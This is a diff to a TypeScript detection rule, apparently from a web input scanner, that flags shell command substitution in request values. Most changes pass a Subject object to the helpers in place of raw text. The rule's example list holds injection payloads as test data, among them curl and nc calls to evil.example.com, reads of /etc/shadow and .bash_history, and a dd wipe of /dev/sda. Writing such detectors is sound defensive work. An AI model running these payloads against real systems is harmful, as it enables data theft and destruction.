@@ -10,7 +10,8 @@ import {
 } from '../../placement/command-place.ts';
 import { confidence } from '../../placement/confidence.ts';
 import type { Subject } from '../../placement/subject.ts';
-import { endsValue, isGluedTo, standsBesideValue, wordsBefore } from '../../text/place.ts';
+import { isBesideValue, isInValue } from '../../placement/value-place.ts';
+import { endsValue, isGluedTo, wordsBefore } from '../../text/place.ts';
 import { wordSet } from '../../text/words.ts';
 import type { Match, ValueRule } from '../rule.ts';
 
@@ -22,6 +23,8 @@ export const substitution: ValueRule = {
   trigger: { literals: [['$(', '`', '<(', '>(']] },
   judge,
   examples: [
+    { body: { host: 'it came too late `sleep 15`' } },
+    { body: { 'query.country': 'it came too late $(env|base64)' } },
     'x;`for f in id; do echo $f; done`',
     "The lamp came in a box that was much too large'$(id)' and so on",
     "The lamp came in a box that was much too large'`hostname`' and so on",
@@ -34,9 +37,7 @@ export const substitution: ValueRule = {
     'a.png${x:-$(dmesg)}',
     'It is broken again.$(systemctl stop ssh)',
     '$(. /etc/hosts)',
-    '12`sudo -l`',
-    'holiday`systemctl stop ssh`',
-    '-`reboot`',
+    ...['12`sudo -l`', 'holiday`systemctl stop ssh`', '-`reboot`'],
     'It ends with $(cat /etc/hosts) as usual',
     'It ends with $(curl http://evil.example.com/) as usual',
     'It ends with $(whoami | nc evil.example.com 80) as usual',
@@ -48,8 +49,7 @@ export const substitution: ValueRule = {
     'It ends with $(date +%F && touch a) as usual',
     '$(dd if=/dev/zero of=/dev/sda)',
     "x;a='$(id)';: ${a@P}",
-    'x;$(expr substr xid 2 2)',
-    '$(</etc/hosts)',
+    ...['x;$(expr substr xid 2 2)', '$(</etc/hosts)'],
     '`until rev;! :;do break;done</etc/shadow|rev`',
     ...['photo`< /etc/hosts`', '-" &\techo $(</etc/hosts);echo "'],
     'broken again.$(f(){ echo $(</home/ann/.bash_history)\n};f)',
@@ -59,6 +59,8 @@ export const substitution: ValueRule = {
     { body: { 'body.comment': 'photo.png `rm -rf dist`' } },
   ],
   lookalikes: [
+    { body: { 'query.s': 'what does `sleep 15` do' } },
+    { body: { filename: 'apples and pears of `Gala`, sorted.pdf' } },
     'Run `ls -la` in the folder, then `cat README.md` shows the text',
     '$(document).ready(function () { $("#id").hide(); })',
     'the price is $(12) less',
@@ -114,18 +116,19 @@ function judge(subject: Subject): Match | undefined {
     if (head.introducer < introducer.substitution) continue;
     const score =
       head.introducer === introducer.backtick
-        ? backtickScore(text, command)
-        : closedScore(text, command, listing >= 0 && listing < head.start);
+        ? backtickScore(subject, command)
+        : closedScore(subject, command, listing >= 0 && listing < head.start);
     if (score > (best?.score ?? 0)) {
       best = { start: head.start, end: closing(text, command), score };
     }
     if (score >= confidence.certain) break;
   }
-  return best ?? readsFile(text, reading.list);
+  return best ?? readsFile(subject, reading.list);
 }
 
 /** `$(</etc/hosts)`: the content of a file without any command (bash and zsh, command substitution). */
-function readsFile(text: string, list: readonly Command[]): Match | undefined {
+function readsFile(subject: Subject, list: readonly Command[]): Match | undefined {
+  const { text } = subject;
   const found = fileRead.exec(text);
   if (found === null) return undefined;
   const start = found.index;
@@ -137,7 +140,7 @@ function readsFile(text: string, list: readonly Command[]): Match | undefined {
   );
   // Scripts that are shown name their own folder.
   const isFirst = !found[0].includes('$', 1) || wordsBefore(text, start) === 0;
-  const isValue = isFirst && standsBesideValue(text, start) && endsValue(text, end);
+  const isValue = isFirst && isBesideValue(subject, start) && endsValue(text, end);
   return isOfScript || isValue ? { start, end, score: confidence.strong } : undefined;
 }
 
@@ -149,15 +152,16 @@ const listingMark = /[\n`]/;
 const closers = ')|;&';
 
 /** `isListed`: in a later line of a text, or behind marks of code. */
-function closedScore(text: string, command: Command, isListed: boolean): number {
+function closedScore(subject: Subject, command: Command, isListed: boolean): number {
+  const { text } = subject;
   const { head } = command;
   if (command.hidden) return confidence.certain;
   if (command.fit >= fit.aloneWord && isBetweenQuotes(text, head.start, command.end + 1))
     return confidence.strong;
   if (onlyNames(text, command) || isTypedCall(text, head.start)) return confidence.hint;
-  if (runsMore(text, command) || isRun(text, command)) return confidence.strong;
+  if (runsMore(text, command) || isRun(subject, command)) return confidence.strong;
   if (command.fit === fit.none) return 0;
-  const isPlaced = isPlacedAt(text, command) || isGluedTo(text, head.start);
+  const isPlaced = isPlacedAt(subject, command) || isGluedTo(text, head.start);
   if (isPlaced && (command.structured || command.fit === fit.full)) return confidence.certain;
   if (command.fit === fit.full) return mentionScore(text, command, isListed);
   return command.fit === fit.weak ? weakScore(text, command) : aloneScore(text, command, isPlaced);
@@ -187,9 +191,10 @@ function weakScore(text: string, command: Command): number {
 }
 
 /** `;$(expr substr xid 2 2)`: what the command prints is the name of the next one. */
-function isRun(text: string, command: Command): boolean {
+function isRun(subject: Subject, command: Command): boolean {
+  const { text } = subject;
   const { head, uses, end } = command;
-  if ((uses & use.english) !== 0 || !isPlacedAt(text, command)) return false;
+  if ((uses & use.english) !== 0 || !isPlacedAt(subject, command)) return false;
   return (
     isClosed(text, command) &&
     separator.test(text.slice(0, head.start).slice(-6)) &&
@@ -252,23 +257,24 @@ const goesOn = /^["'`)\]]{0,2}(?: ?[\w~./:-]{1,40}(?=\s))?(?: \p{L}[\p{L}'’-]{
 const argumentCharsMax = 100;
 
 /** In a script that stands beside a value, or beside one itself. */
-function isPlacedAt(text: string, { chain, head }: Command): boolean {
-  return chain < head.start || standsBesideValue(text, head.start);
+function isPlacedAt(subject: Subject, { chain, head }: Command): boolean {
+  return chain < head.start || isBesideValue(subject, head.start);
 }
 
 /** Markdown marks code with backticks: only a value that is nothing else is an attack. */
-function backtickScore(text: string, command: Command): number {
+function backtickScore(subject: Subject, command: Command): number {
+  const { text } = subject;
   const { head, fit: found } = command;
   const { start } = head;
   const end = text.indexOf('`', command.end) + 1;
-  if (isScript(text, command, end)) return confidence.certain;
+  if (isScript(subject, command, end)) return confidence.certain;
   if (found < fit.aloneWord) return 0;
   // Without its end a substitution runs nothing (POSIX, 2.6.3): a quotation mark, as in `id'.
   if (end === 0 || isDocumented(text, start, end)) return confidence.trace;
   if (isJoined(text, start, end)) return confidence.certain;
   if (isInWord(text, command, end)) return confidence.strong;
   if (isOwnTool(text, command, end)) return confidence.trace;
-  if (!standsAlone(text, start, end))
+  if (!standsAlone(subject, start, end))
     return command.hidden && found === fit.full ? confidence.hint : confidence.trace;
   if (found === fit.aloneWord)
     return isQuotedFirst(text, start) || isGluedTo(text, start)
@@ -277,9 +283,10 @@ function backtickScore(text: string, command: Command): number {
   return found === fit.alone ? confidence.strong : confidence.certain;
 }
 
-function isScript(text: string, command: Command, end: number): boolean {
+function isScript(subject: Subject, command: Command, end: number): boolean {
+  const { text } = subject;
   if (!command.structured || command.fit === fit.none) return false;
-  if (!isPlacedAt(text, command) && !isGluedTo(text, command.head.start)) return false;
+  if (!isPlacedAt(subject, command) && !isGluedTo(text, command.head.start)) return false;
   return !namingLoop.test(text.slice(command.head.start, end));
 }
 
@@ -324,10 +331,11 @@ function isOwnTool(text: string, { head, name, hidden }: Command, end: number): 
 }
 
 /** Beside a value, and neither the name of a link of Markdown, [`name`](target), nor a word of a sentence. */
-function standsAlone(text: string, start: number, end: number): boolean {
+function standsAlone(subject: Subject, start: number, end: number): boolean {
+  const { text } = subject;
   if (text.charAt(end) === ']' || text.charAt(start - 1) === '[') return false;
-  if (isInSentence(text, start, end)) return false;
-  return (standsBesideValue(text, start) && endsValue(text, end)) || isGluedTo(text, start);
+  if (isInSentence(text, start, end) && !isInValue(subject, start)) return false;
+  return (isBesideValue(subject, start) && endsValue(text, end)) || isGluedTo(text, start);
 }
 
 /** Behind a quote, and no blank in front of it. */
